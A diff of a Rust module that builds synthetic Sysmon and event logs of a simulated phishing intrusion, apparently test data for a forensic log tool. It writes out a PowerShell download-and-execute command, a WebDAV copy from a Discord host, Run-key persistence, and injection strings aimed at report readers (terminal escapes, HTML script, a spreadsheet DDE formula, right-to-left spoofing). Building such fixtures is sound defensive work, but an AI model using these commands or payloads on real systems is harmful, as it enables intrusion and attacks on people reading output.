@@ -1,15 +1,19 @@
 //! FIN-WS07, the one machine that was broken into.
 //!
 //! On the evening of 3 March a script opened from a mail queries pastebin.com; that part is in a
-//! log that was archived since. The next morning PowerShell fetches a second stage, which settles
-//! below AppData and reports to a Telegram bot for hours. Most of it lies after the first chunk,
-//! which is the only one that the log's header counts.
+//! log that was archived since. The next morning the script, which still runs, starts PowerShell,
+//! which fetches a second stage. This settles below AppData and reports to a Telegram bot for
+//! hours. Most of it lies after the first chunk, which is the only one that the log's header counts.
+//!
+//! Explorer started Outlook, Outlook the script, the script PowerShell, PowerShell `winsync.exe`,
+//! and this `cmd.exe`. Explorer was started before the logs begin.
 
 use crate::error::Error;
 use crate::event::Event;
 use crate::log::LogWriter;
 use crate::record::Style;
-use crate::story::journal::{Journal, Log, SYSMON_LOG, evening, morning};
+use crate::story::journal::{EXPLORER, Journal, Log, OFFICE, SYSMON_LOG, evening, morning};
+use crate::story::machine::Process;
 use crate::truth::SampleFile;
 
 const HOST: &str = "FIN-WS07";
@@ -20,104 +24,152 @@ const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell
 const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
 const CMD: &str = r"C:\Windows\System32\cmd.exe";
 const IMPLANT: &str = r"C:\Users\m.keller\AppData\Roaming\WinSync\winsync.exe";
+const MARKUP: &str = r"C:\Users\Public\<script>alert(1)</script>.exe";
+
+const ATTACHMENTS: &str =
+    r"C:\Users\m.keller\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1XA\";
+const ATTACHMENT: &str =
+    r"C:\Users\m.keller\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1XA\Invoice.js";
+/// The arguments with which PowerShell fetches the second stage and starts it.
+const FETCH: &str = "-nop -w hidden -c \"$f = $env:APPDATA + '\\WinSync\\winsync.exe'; \
+                     iwr https://pastebin.com/raw/Xy12Ab34 -OutFile $f; & $f /quiet\"";
+const COPY: &str =
+    r"C:\Windows\system32\cmd.exe /c copy /y \\cdn.discordapp.com@SSL\DavWWWRoot\118\s.dat %TEMP%";
+/// Arguments that are meant to harm a terminal, a browser, a spreadsheet and a reader: escape
+/// sequences, markup, a formula, and letters that turn the direction of reading.
+const HARMFUL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7} <img src=x onerror=alert(1)> \
+                       =cmd|' /C calc'!A0 \u{202e}fdp.exe\u{202c}\t`tick`\r\n--end";
 
 const PASTEBIN: &str = "::ffff:203.0.113.10;::ffff:203.0.113.11;";
 const TELEGRAM: &str = "2001:db8::4:220;::ffff:203.0.113.220;";
 
 pub(super) fn files() -> Result<Vec<SampleFile>, Error> {
-    Ok(vec![archived_log()?, sysmon_log()?, security_log()?, system_log()?, application_log()?])
+    let evening = Evening::new()?;
+    let sysmon = sysmon_log(&evening)?;
+    Ok(vec![evening.file, sysmon, security_log()?, system_log()?, application_log()?])
 }
 
-/// Makes the log of the evening before. An archived log has the layout of the live log that it was,
-/// but was closed properly.
-fn archived_log() -> Result<SampleFile, Error> {
-    let writer = LogWriter::new(Style::Live).dirty(false).stale_header(false).first_number(88_101);
-    let mut log = Log::new("evidence", HOST, ARCHIVE, writer, Style::Live);
-    let mut journal = Journal::new(HOST, USER, evening(), 88_101);
-    journal.routine(38);
-    journal.add(
-        40,
-        Event::process_create(
-            WSCRIPT,
-            r#"wscript.exe "C:\Users\m.keller\Downloads\Invoice.js""#,
-            r"C:\Windows\explorer.exe",
-        )
-        .of_process(5832),
-    );
-    journal.add(2, Event::dns_query("pastebin.com", WSCRIPT).answered("0", PASTEBIN).of_process(5832));
-    journal.add(1, Event::network_connection(WSCRIPT, "203.0.113.10", 443).of_process(5832));
-    journal.routine(24);
-    log.push(journal.take())?;
-    Ok(log.finish())
+/// The log of the evening before, and what is left of the evening the next day.
+struct Evening {
+    file: SampleFile,
+    journal: Journal,
+    script: Process,
 }
 
-fn sysmon_log() -> Result<SampleFile, Error> {
+impl Evening {
+    /// Makes the log of the evening before. An archived log has the layout of the live log that it
+    /// was, but was closed properly.
+    fn new() -> Result<Self, Error> {
+        let writer = LogWriter::new(Style::Live).dirty(false).stale_header(false).first_number(88_101);
+        let mut log = Log::new("evidence", HOST, ARCHIVE, writer, Style::Live);
+        let mut journal = Journal::new(HOST, USER, evening(), 88_101);
+        let explorer = journal.running(EXPLORER, 4880);
+        let outlook = journal.start_between(1_800, &explorer, creation(OFFICE, &quoted(OFFICE), 7464));
+        journal.set_running(&outlook);
+        journal.routine(38);
+        journal.add_between(20_000, &outlook, Event::file_create(OFFICE, ATTACHMENT));
+        let command_line = format!("{} \"{ATTACHMENT}\"", quoted(WSCRIPT));
+        let script = journal.start(40, &outlook, creation(WSCRIPT, &command_line, 5832));
+        journal.add_of(2, &script, Event::dns_query("pastebin.com", WSCRIPT).answered("0", PASTEBIN));
+        journal.add_of(1, &script, Event::network_connection(WSCRIPT, "203.0.113.10", 443));
+        journal.routine(24);
+        log.push(journal.take())?;
+        Ok(Self { file: log.finish(), journal, script })
+    }
+}
+
+/// Makes the log of the next day. The script of the evening still runs, and goes on.
+fn sysmon_log(evening: &Evening) -> Result<SampleFile, Error> {
     let mut log = Log::live("evidence", HOST, SYSMON_LOG);
-    log.writer = LogWriter::new(Style::Live).first_number(88_166);
-    let mut journal = Journal::new(HOST, USER, morning(), 88_166);
+    let mut journal = Journal::new(HOST, USER, morning(), 88_166).continuing(&evening.journal);
+    log.writer = LogWriter::new(Style::Live).first_number(journal.next_record_id());
     journal.routine(60);
-    second_stage(&mut journal);
+    let stage = SecondStage::start(&mut journal, &evening.script);
     journal.routine(55);
-    beacon(&mut journal);
-    hostile_strings(&mut journal);
+    beacon(&mut journal, &stage.implant);
+    hostile_strings(&mut journal, &stage);
     journal.routine(40);
     log.push(journal.take())?;
     Ok(log.finish())
 }
 
-/// Adds the events of the attack's second stage: PowerShell fetches it and starts it.
-fn second_stage(journal: &mut Journal) {
-    let command = "powershell.exe -nop -w hidden -c iwr https://pastebin.com/raw/Xy12Ab34";
-    journal.add(12, Event::process_create(POWERSHELL, command, WSCRIPT).of_process(9044));
-    journal.add(1, Event::dns_query("pastebin.com", POWERSHELL).answered("0", PASTEBIN).of_process(9044));
-    journal.add(1, Event::network_connection(POWERSHELL, "203.0.113.10", 443).of_process(9044));
-    journal.add(3, Event::file_create(POWERSHELL, IMPLANT).of_process(9044));
-    journal.add(1, Event::process_create(IMPLANT, "winsync.exe /quiet", POWERSHELL).of_process(9120));
-    journal.add(
-        5,
-        Event::registry_value(IMPLANT, r"HKU\Software\Microsoft\Windows\CurrentVersion\Run\WinSync", IMPLANT)
-            .of_process(9120),
-    );
-    journal.add(8, Event::dns_query("t.me", IMPLANT).answered("0", "::ffff:203.0.113.99;").of_process(9120));
-    // The same name is queried twice more: once the query fails, once a second process makes it.
-    journal.add(4, Event::dns_query("t.me", IMPLANT).answered("1460", "-").of_process(9120));
-    journal.add(9, Event::dns_query("Pastebin.com", POWERSHELL).answered("0", PASTEBIN).of_process(9188));
+/// The processes of the attack's second stage that stay.
+struct SecondStage {
+    implant: Process,
+    /// A second PowerShell. Its creation is missing in the log.
+    powershell: Process,
+}
+
+impl SecondStage {
+    /// Adds the events of the second stage: PowerShell fetches it and starts it. The script that
+    /// started PowerShell ends.
+    fn start(journal: &mut Journal, script: &Process) -> Self {
+        let command_line = format!("{} {FETCH}", quoted(POWERSHELL));
+        let powershell = journal.start(12, script, creation(POWERSHELL, &command_line, 9044));
+        let query = Event::dns_query("pastebin.com", POWERSHELL).answered("0", PASTEBIN);
+        journal.add_of(1, &powershell, query);
+        journal.add_of(1, &powershell, Event::network_connection(POWERSHELL, "203.0.113.10", 443));
+        journal.add_of(3, &powershell, Event::file_create(POWERSHELL, IMPLANT));
+        let command_line = format!("{} /quiet", quoted(IMPLANT));
+        let implant = journal.start(1, &powershell, creation(IMPLANT, &command_line, 9120));
+        journal.add_between(900, &powershell, Event::process_terminate(POWERSHELL));
+        journal.add_between(1_400, script, Event::process_terminate(WSCRIPT));
+        let run = r"HKU\Software\Microsoft\Windows\CurrentVersion\Run\WinSync";
+        journal.add_of(5, &implant, Event::registry_value(IMPLANT, run, IMPLANT));
+        let query = |name| Event::dns_query(name, IMPLANT);
+        journal.add_of(8, &implant, query("t.me").answered("0", "::ffff:203.0.113.99;"));
+        // The same name is queried twice more: once the query fails, once a second process makes it.
+        journal.add_of(4, &implant, query("t.me").answered("1460", "-"));
+        let unlogged = creation(POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgA", 9188);
+        let powershell = journal.start_unlogged(5_000, &implant, unlogged);
+        let query = Event::dns_query("Pastebin.com", POWERSHELL).answered("0", PASTEBIN);
+        journal.add_of(9, &powershell, query);
+        Self { implant, powershell }
+    }
 }
 
 /// Adds the events of the implant, which reports every half hour and runs a command or two.
-fn beacon(journal: &mut Journal) {
+fn beacon(journal: &mut Journal, implant: &Process) {
     for round in 0_u32..6 {
-        let query = Event::dns_query("api.telegram.org", IMPLANT).answered("0", TELEGRAM).of_process(9120);
-        journal.add(1500, query);
-        journal.add(1, Event::network_connection(IMPLANT, "203.0.113.220", 443).of_process(9120));
+        let query = Event::dns_query("api.telegram.org", IMPLANT).answered("0", TELEGRAM);
+        journal.add_of(1500, implant, query);
+        journal.add_of(1, implant, Event::network_connection(IMPLANT, "203.0.113.220", 443));
         if round == 3 {
-            journal.add(2, Event::process_create(CMD, "cmd.exe /c curl.exe -O", IMPLANT).of_process(9904));
-            journal.add(
+            let shell = journal.start(2, implant, creation(CMD, COPY, 9904));
+            journal.add_of(
                 1,
+                &shell,
                 Event::dns_query("cdn.discordapp.com", CMD)
-                    .answered("0", "::ffff:203.0.113.130;::ffff:203.0.113.131;")
-                    .of_process(9904),
+                    .answered("0", "::ffff:203.0.113.130;::ffff:203.0.113.131;"),
             );
+            journal.add_between(1_700, &shell, Event::process_terminate(CMD));
         }
         journal.routine(22);
     }
 }
 
-/// Adds DNS queries for names that are meant to harm whoever reads the report.
-fn hostile_strings(journal: &mut Journal) {
-    journal.add(
-        20,
-        Event::dns_query("\u{1b}[2J\u{1b}[31mpastebin.com\u{7}", POWERSHELL)
-            .answered("123", "-")
-            .of_process(9188),
-    );
-    journal.add(
-        11,
-        Event::dns_query("discord.gg", r"C:\Users\Public\<script>alert(1)</script>.exe")
-            .answered("9003", "-")
-            .of_process(9960),
-    );
-    journal.add(6, Event::dns_query("=cmd|' /C calc'!A0", IMPLANT).answered("9560", "-").of_process(9120));
+/// Adds DNS queries for names, and a process creation with a command line, that are meant to harm
+/// whoever reads the report.
+fn hostile_strings(journal: &mut Journal, stage: &SecondStage) {
+    let query = Event::dns_query("\u{1b}[2J\u{1b}[31mpastebin.com\u{7}", POWERSHELL).answered("123", "-");
+    journal.add_of(20, &stage.powershell, query);
+    let hostile = creation(MARKUP, &format!("=HYPERLINK(\"{MARKUP}\") {HARMFUL}"), 9960);
+    let markup = journal.start_between(4_000, &stage.implant, hostile);
+    journal.add_of(11, &markup, Event::dns_query("discord.gg", MARKUP).answered("9003", "-"));
+    let query = Event::dns_query("=cmd|' /C calc'!A0", IMPLANT).answered("9560", "-");
+    journal.add_of(6, &stage.implant, query);
+    journal.add_between(1_200, &markup, Event::process_terminate(MARKUP));
+    journal.add_between(1_500, &stage.powershell, Event::process_terminate(POWERSHELL));
+}
+
+/// Makes the creation of a process that its parent starts in the folder of the mail's attachments.
+fn creation(image: &str, command_line: &str, process_id: u32) -> Event {
+    let directory = if image == OFFICE { r"C:\Users\m.keller\" } else { ATTACHMENTS };
+    Event::process_create(image, command_line, "-").of_process(process_id).with("CurrentDirectory", directory)
+}
+
+fn quoted(image: &str) -> String {
+    format!("\"{image}\"")
 }
 
 fn security_log() -> Result<SampleFile, Error> {
